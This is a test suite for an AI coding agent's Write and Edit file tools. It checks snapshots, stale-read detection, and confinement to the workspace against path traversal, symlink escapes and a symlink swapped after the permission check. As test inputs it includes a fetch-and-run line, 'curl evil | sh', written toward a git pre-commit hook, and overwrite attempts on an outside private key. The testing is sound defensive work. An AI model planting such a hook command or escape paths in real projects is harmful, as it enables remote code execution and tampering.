import * as fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { BuiltinToolError } from "../../src/builtin/define.ts";
import { assertFresh, readKey } from "../../src/builtin/read-records.ts";
import { builtinInfo } from "../../src/tools/builtin-mark.ts";
import { runtimeOf } from "../../src/tools/definition.ts";
import {
  expectNoHostPath,
  expectNoSecret,
  type Fixture,
  fakeContext,
  invoke,
  makeFixture,
} from "./harness.ts";

let fx: Fixture;
beforeEach(() => {
  fx = makeFixture();
});
afterEach(() => fx.cleanup());

const read = (file_path: string, ctx = fx.ctx) => invoke(fx.tools.Read, { file_path }, ctx);
const write = (file_path: string, content: string, ctx = fx.ctx) =>
  invoke(fx.tools.Write, { file_path, content }, ctx);
const edit = (input: Record<string, unknown>, ctx = fx.ctx) => invoke(fx.tools.Edit, input, ctx);
const contentOf = (relative: string) => fs.readFileSync(path.join(fx.root, relative), "utf8");

/** Temp files Write or Edit may have left anywhere in the workspace. */
function leftovers(): string[] {
  return (fs.readdirSync(fx.root, { recursive: true }) as string[]).filter((name) =>
    name.includes(".skein-tmp"),
  );
}

/** Makes a file look modified later, as an editor save would. */
function touchLater(relative: string): void {
  const later = new Date(Date.now() + 5000);
  fs.utimesSync(path.join(fx.root, relative), later, later);
}

describe("Write", () => {
  it("creates a file and its parent directories, snapshotting null first", async () => {
    const result = await write("new/dir/file.txt", "one\ntwo\n");
    expect(result.isError).toBeFalsy();
    expect(result.text).toBe("Created new/dir/file.txt (2 lines, 8 bytes).");
    expect(contentOf("new/dir/file.txt")).toBe("one\ntwo\n");
    expect(fx.ctx.snapshots).toEqual([{ path: "new/dir/file.txt", content: null }]);
    expect(leftovers()).toEqual([]);
  });

  it("overwrites a file read in this run, snapshotting the previous text before the change", async () => {
    fx.write("a.txt", "old");
    await read("a.txt");
    fx.ctx.recordSnapshot.mockImplementation(async (snapshot) => {
      // Called before the change: the file still holds the old text.
      expect(contentOf("a.txt")).toBe("old");
      fx.ctx.snapshots.push(snapshot);
    });
    const result = await write("a.txt", "new");
    expect(result.text).toBe("Updated a.txt (1 line, 3 bytes).");
    expect(contentOf("a.txt")).toBe("new");
    expect(fx.ctx.snapshots).toEqual([{ path: "a.txt", content: "old" }]);
    expect(fx.ctx.recordSnapshot).toHaveBeenCalledTimes(1);
  });

  it("refuses to overwrite a file not read in this run, or changed since", async () => {
    fx.write("a.txt", "old");
    const unread = await write("a.txt", "new");
    expect(unread.isError).toBe(true);
    expect(unread.text).toMatch(/^a\.txt has not been read in this run\. Read it first/);
    await read("a.txt");
    fx.write("a.txt", "changed by the user");
    const stale = await write("a.txt", "new");
    expect(stale.isError).toBe(true);
    expect(stale.text).toMatch(/^a\.txt has changed since it was last read/);
    expect(contentOf("a.txt")).toBe("changed by the user");
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("updates the read record, so Edit follows without a Read", async () => {
    await write("f.txt", "hello world");
    const result = await edit({ file_path: "f.txt", old_string: "world", new_string: "there" });
    expect(result.isError).toBeFalsy();
    expect(contentOf("f.txt")).toBe("hello there");
  });

  it("keeps the file mode and leaves no temp file", async () => {
    const file = fx.write("run.sh", "#!/bin/sh\n");
    fs.chmodSync(file, 0o755);
    await read("run.sh");
    await write("run.sh", "#!/bin/sh\necho hi\n");
    expect(fs.statSync(file).mode & 0o777).toBe(0o755);
    expect(leftovers()).toEqual([]);
  });

  it("refuses a directory and leaves no temp file", async () => {
    fs.mkdirSync(path.join(fx.root, "dir"));
    const result = await write("dir", "x");
    expect(result.isError).toBe(true);
    expect(result.text).toBe("dir is a directory.");
    expect(await write(".", "x")).toMatchObject({ isError: true });
    expect(leftovers()).toEqual([]);
  });

  it("refuses a symlink at the final component, even one leading inside: link and target stay", async () => {
    fx.write("real.txt", "old");
    fs.symlinkSync("real.txt", path.join(fx.root, "alias.txt"));
    await read("alias.txt");
    const result = await write("alias.txt", "new");
    expect(result.isError).toBe(true);
    expect(result.text).toBe(
      "alias.txt is a symbolic link. Write and Edit never write through a link: write to its target path directly.",
    );
    expect(fs.lstatSync(path.join(fx.root, "alias.txt")).isSymbolicLink()).toBe(true);
    expect(contentOf("real.txt")).toBe("old");
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
    // The target's own path works.
    await read("real.txt");
    expect((await write("real.txt", "new")).isError).toBeFalsy();
    expect(contentOf("real.txt")).toBe("new");
  });

  it("refuses a dangling symlink pointing inside, naming only the model's path (C3)", async () => {
    fs.symlinkSync("made/by-link.txt", path.join(fx.root, "dangling"));
    const result = await write("dangling", "created");
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/^dangling is a symbolic link\./);
    expect(result.text).not.toContain("made");
    expect(fs.existsSync(path.join(fx.root, "made"))).toBe(false);
    expect(fs.lstatSync(path.join(fx.root, "dangling")).isSymbolicLink()).toBe(true);
  });

  it("refuses a final symlink however the path is spelled, and writes under a symlinked parent", async () => {
    fx.write("dir/real.txt", "old");
    fs.symlinkSync("real.txt", path.join(fx.root, "dir/alias.txt"));
    fs.symlinkSync("dir", path.join(fx.root, "dir-link"));
    for (const file_path of [
      "dir/alias.txt",
      "dir-link/alias.txt",
      "dir/../dir/alias.txt",
      "./dir/alias.txt",
      path.join(fx.root, "dir/alias.txt"),
    ]) {
      const result = await write(file_path, "new");
      expect(result.text, file_path).toMatch(/is a symbolic link\. Write and Edit never write/);
    }
    expect(contentOf("dir/real.txt")).toBe("old");
    // A symlinked parent directory is fine: only the final component may not be a link.
    const created = await write("dir-link/new.txt", "n");
    expect(created.text).toBe("Created dir/new.txt (1 line, 1 byte).");
  });

  it("refuses to replace a binary (non-UTF-8) file, whose snapshot could not hold its bytes", async () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0x00, 0xfe]);
    fx.write("pic.png", png);
    await read("pic.png");
    expect(fx.ctx.data.has(readKey("pic.png"))).toBe(true);
    const result = await write("pic.png", "text now");
    expect(result.isError).toBe(true);
    expect(result.text).toBe(
      "pic.png is a binary file (not valid UTF-8 text): skein's Write and Edit handle text files only.",
    );
    expect(fs.readFileSync(path.join(fx.root, "pic.png"))).toEqual(png);
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("never writes outside (C1, C2, C3), and says so without the host path", async () => {
    fs.symlinkSync(path.join(fx.evil, "id_rsa"), path.join(fx.root, "key"));
    fs.symlinkSync(path.join(fx.evil, "planted"), path.join(fx.root, "dangling-out"));
    fs.symlinkSync(fx.evil, path.join(fx.root, "evil-dir"));
    fs.symlinkSync("loop-b", path.join(fx.root, "loop-a"));
    fs.symlinkSync("loop-a", path.join(fx.root, "loop-b"));
    const before = fx.outsideState();
    const attempts = [
      "a/../../x",
      "../x",
      "../work2/x",
      path.join(fx.sibling, "x"),
      `${fx.root}2/new`,
      "/tmp/skein-should-not-exist",
      "key",
      "dangling-out",
      "evil-dir/new.txt",
      "evil-dir/deeper/new.txt",
      "loop-a",
      "loop-a/x",
    ];
    for (const file_path of attempts) {
      const result = await write(file_path, "pwned");
      expect(result.isError, file_path).toBe(true);
      expect(result.text).toMatch(/outside the workspace|too many levels of symbolic links/);
      expectNoSecret(fx, result.text);
      if (!path.isAbsolute(file_path)) expectNoHostPath(fx, result.text);
    }
    expect(fx.outsideState()).toEqual(before);
    expect(fs.existsSync("/tmp/skein-should-not-exist")).toBe(false);
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });
});

describe("Edit", () => {
  beforeEach(() => {
    fx.write("code.ts", "const a = 1;\nconst b = 2;\nconst a2 = a;\n");
  });

  it("replaces a unique string, snapshots first, returns a short diff", async () => {
    await read("code.ts");
    const result = await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(result.isError).toBeFalsy();
    expect(result.text).toMatch(/^Edited code\.ts: replaced 1 occurrence\.\n\n@@ /);
    expect(result.text).toContain("-const b = 2;\n+const b = 3;");
    expect(contentOf("code.ts")).toBe("const a = 1;\nconst b = 3;\nconst a2 = a;\n");
    expect(fx.ctx.snapshots).toEqual([
      { path: "code.ts", content: "const a = 1;\nconst b = 2;\nconst a2 = a;\n" },
    ]);
    expect(leftovers()).toEqual([]);
  });

  it("refuses an ambiguous string with the count; replace_all replaces them all", async () => {
    await read("code.ts");
    const ambiguous = await edit({
      file_path: "code.ts",
      old_string: "const a",
      new_string: "let a",
    });
    expect(ambiguous.isError).toBe(true);
    expect(ambiguous.text).toBe(
      "old_string occurs 2 times in code.ts. Include more surrounding lines to make it unique, or set replace_all to true to replace every occurrence.",
    );
    const all = await edit({
      file_path: "code.ts",
      old_string: "const a",
      new_string: "let a",
      replace_all: true,
    });
    expect(all.text).toMatch(/^Edited code\.ts: replaced 2 occurrences\./);
    expect(contentOf("code.ts")).toBe("let a = 1;\nconst b = 2;\nlet a2 = a;\n");
  });

  it("refuses a string not found, an identical replacement and an empty old_string", async () => {
    await read("code.ts");
    expect((await edit({ file_path: "code.ts", old_string: "nope", new_string: "x" })).text).toBe(
      "old_string was not found in code.ts. It must match the file exactly, including whitespace and indentation; Read the file again if unsure.",
    );
    expect((await edit({ file_path: "code.ts", old_string: "b", new_string: "b" })).text).toMatch(
      /identical/,
    );
    expect((await edit({ file_path: "code.ts", old_string: "", new_string: "x" })).text).toMatch(
      /old_string is empty/,
    );
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("refuses a file not read in this run, a stale one, and a missing one", async () => {
    const unread = await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(unread.text).toMatch(/^code\.ts has not been read in this run/);
    await read("code.ts");
    fs.appendFileSync(path.join(fx.root, "code.ts"), "// added by the user\n");
    const stale = await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(stale.text).toMatch(/^code\.ts has changed since it was last read/);
    const missing = await edit({ file_path: "gone.ts", old_string: "a", new_string: "b" });
    expect(missing.text).toBe("gone.ts does not exist. Use Write to create it.");
    expect(contentOf("code.ts")).toMatch(/b = 2/);
  });

  it("catches a same-size change with the content hash, and lets a bare touch pass", async () => {
    await read("code.ts");
    touchLater("code.ts");
    const touched = await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(touched.isError).toBeFalsy();
    // Same size, same mtime as recorded: only the hash tells.
    const ctx = fakeContext();
    await read("code.ts", ctx);
    const file = path.join(fx.root, "code.ts");
    const { atime, mtime } = fs.statSync(file);
    fs.writeFileSync(file, contentOf("code.ts").replace("b = 3", "b = 4"));
    fs.utimesSync(file, atime, mtime);
    const swapped = await edit(
      { file_path: "code.ts", old_string: "a = 1", new_string: "a = 0" },
      ctx,
    );
    expect(swapped.text).toMatch(/has changed since it was last read/);
  });

  it("accepts a file read partially (offset/limit) if unchanged", async () => {
    await invoke(fx.tools.Read, { file_path: "code.ts", offset: 2, limit: 1 }, fx.ctx);
    const result = await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(result.isError).toBeFalsy();
  });

  it("the read record survives a paused state (JSON) and a second edit needs no Read", async () => {
    await read("code.ts");
    const resumed = fakeContext(new Map(JSON.parse(JSON.stringify([...fx.ctx.data]))));
    await edit({ file_path: "code.ts", old_string: "b = 2", new_string: "b = 3" }, resumed);
    const again = await edit(
      { file_path: "code.ts", old_string: "b = 3", new_string: "b = 4" },
      resumed,
    );
    expect(again.isError).toBeFalsy();
    expect(contentOf("code.ts")).toContain("b = 4");
    expect(resumed.snapshots.map((s) => s.content?.includes("b = 3"))).toEqual([false, true]);
  });

  it("treats $-patterns in new_string literally and handles CRLF files", async () => {
    fx.write("crlf.txt", "one\r\ntwo\r\nthree\r\n");
    await read("crlf.txt");
    const result = await edit({
      file_path: "crlf.txt",
      old_string: "one\ntwo",
      new_string: "$& $1 $$\nsecond",
    });
    expect(result.isError).toBeFalsy();
    expect(contentOf("crlf.txt")).toBe("$& $1 $$\r\nsecond\r\nthree\r\n");
  });

  it("refuses invalid UTF-8 instead of corrupting it, as Write does", async () => {
    const latin1 = Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]);
    fx.write("latin1.txt", latin1);
    await read("latin1.txt");
    const result = await edit({ file_path: "latin1.txt", old_string: "caf", new_string: "kaf" });
    expect(result.text).toBe(
      "latin1.txt is a binary file (not valid UTF-8 text): skein's Write and Edit handle text files only.",
    );
    expect((await write("latin1.txt", "café\n")).text).toBe(result.text);
    expect(fs.readFileSync(path.join(fx.root, "latin1.txt"))).toEqual(latin1);
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("refuses a symlink at the final component, even one leading inside", async () => {
    fs.symlinkSync("code.ts", path.join(fx.root, "alias.ts"));
    await read("alias.ts");
    const result = await edit({ file_path: "alias.ts", old_string: "b = 2", new_string: "b = 3" });
    expect(result.isError).toBe(true);
    expect(result.text).toBe(
      "alias.ts is a symbolic link. Write and Edit never write through a link: write to its target path directly.",
    );
    expect(contentOf("code.ts")).toContain("b = 2");
    expect(fs.lstatSync(path.join(fx.root, "alias.ts")).isSymbolicLink()).toBe(true);
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("never edits outside through links (C3)", async () => {
    fs.symlinkSync(path.join(fx.evil, "id_rsa"), path.join(fx.root, "key"));
    const before = fx.outsideState();
    for (const file_path of ["key", "../work-evil/id_rsa", path.join(fx.evil, "id_rsa")]) {
      const result = await edit({ file_path, old_string: "SECRET", new_string: "PWNED" });
      expect(result.isError).toBe(true);
      expect(result.text).toMatch(/outside the workspace/);
      expectNoSecret(fx, result.text);
    }
    expect(fx.outsideState()).toEqual(before);
  });
});

describe("Write and Edit: the opened path is rechecked (a symlink swapped in after the gate)", () => {
  /** `l` pointed at src when the gate checked `l/pre-commit`; a background job swapped it since. */
  function swapped(): void {
    fx.write("src/pre-commit", "src version\n");
    fx.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    fs.symlinkSync("src", path.join(fx.root, "l"));
    fs.rmSync(path.join(fx.root, "l"));
    fs.symlinkSync(".git/hooks", path.join(fx.root, "l"));
  }
  /** A stub gate: anything opened under .git is refused. */
  function refuseGit(): void {
    fx.recheck.mockImplementation((_kind, given, opened) =>
      opened.startsWith(".git/") ? `Permission denied: ${given} now leads into .git.` : undefined,
    );
  }
  const hook = () => contentOf(".git/hooks/pre-commit");

  it("Write: recheck gets the canonical target; a refusal leaves the file untouched", async () => {
    swapped();
    // The file was read through its real path earlier in the run: only the recheck stops this.
    expect((await read(".git/hooks/pre-commit")).isError).toBeFalsy();
    refuseGit();
    const result = await write("l/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
    expect(result.isError).toBe(true);
    expect(result.text).toBe("Permission denied: l/pre-commit now leads into .git.");
    expect(fx.recheck).toHaveBeenCalledWith("Write", "l/pre-commit", ".git/hooks/pre-commit");
    expect(hook()).toBe("#!/bin/sh\nexit 0\n");
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
    expect(leftovers()).toEqual([]);
    // A new file behind the link: not created, no directory made.
    const created = await write("l/sub/new-hook", "x");
    expect(created.isError).toBe(true);
    expect(fx.recheck).toHaveBeenLastCalledWith(
      "Write",
      "l/sub/new-hook",
      ".git/hooks/sub/new-hook",
    );
    expect(fs.existsSync(path.join(fx.root, ".git/hooks/sub"))).toBe(false);
    // Without the recheck's refusal, the very same call would have replaced the hook.
    fx.recheck.mockReturnValue(undefined);
    expect((await write("l/pre-commit", "replaced\n")).isError).toBeFalsy();
    expect(hook()).toBe("replaced\n");
  });

  it("Edit: refused before the file is read, so no match answer tells about its content", async () => {
    swapped();
    expect((await read(".git/hooks/pre-commit")).isError).toBeFalsy();
    refuseGit();
    const result = await edit({
      file_path: "l/pre-commit",
      old_string: "not in the file",
      new_string: "x",
    });
    expect(result.text).toBe("Permission denied: l/pre-commit now leads into .git.");
    const match = await edit({ file_path: "l/pre-commit", old_string: "exit 0", new_string: "x" });
    expect(match.isError).toBe(true);
    expect(fx.recheck).toHaveBeenLastCalledWith("Edit", "l/pre-commit", ".git/hooks/pre-commit");
    expect(hook()).toBe("#!/bin/sh\nexit 0\n");
    expect(fx.ctx.recordSnapshot).not.toHaveBeenCalled();
  });

  it("a path the recheck accepts is written, with the canonical path passed", async () => {
    swapped();
    refuseGit();
    await read("src/pre-commit");
    const result = await write("./src/../src/pre-commit", "mine\n");
    expect(result.isError).toBeFalsy();
    expect(fx.recheck).toHaveBeenLastCalledWith(
      "Write",
      "./src/../src/pre-commit",
      "src/pre-commit",
    );
    expect(contentOf("src/pre-commit")).toBe("mine\n");
  });
});

describe("assertFresh", () => {
  it("examines the file itself when no state is given", async () => {
    await read("x.txt").catch(() => undefined);
    fx.write("x.txt", "x");
    const resolved = await fx.env.workspace.resolve("x.txt");
    await expect(assertFresh(fx.ctx, resolved)).rejects.toBeInstanceOf(BuiltinToolError);
    await read("x.txt");
    expect(fx.ctx.data.has(readKey("x.txt"))).toBe(true);
    await expect(assertFresh(fx.ctx, resolved)).resolves.toBeUndefined();
    fs.writeFileSync(path.join(fx.root, "x.txt"), "y");
    touchLater("x.txt");
    await expect(assertFresh(fx.ctx, resolved)).rejects.toThrow(/has changed/);
  });
});

describe("Write and Edit: definitions", () => {
  it("are workspace-writing, not concurrency-safe, edit-permission tools", () => {
    for (const name of ["Write", "Edit"] as const) {
      const tool = fx.tools[name];
      expect(tool.name).toBe(name);
      expect(tool.security).toEqual({
        network: "none",
        filesystem: "workspace",
        sideEffects: "workspace",
      });
      expect(runtimeOf(tool).isConcurrencySafe).toBeUndefined();
      const permission = builtinInfo(tool)?.permission;
      expect(permission?.kind).toBe("edit");
      if (permission?.kind === "edit")
        expect(permission.paths({ file_path: "a/b" })).toEqual(["a/b"]);
    }
  });
});
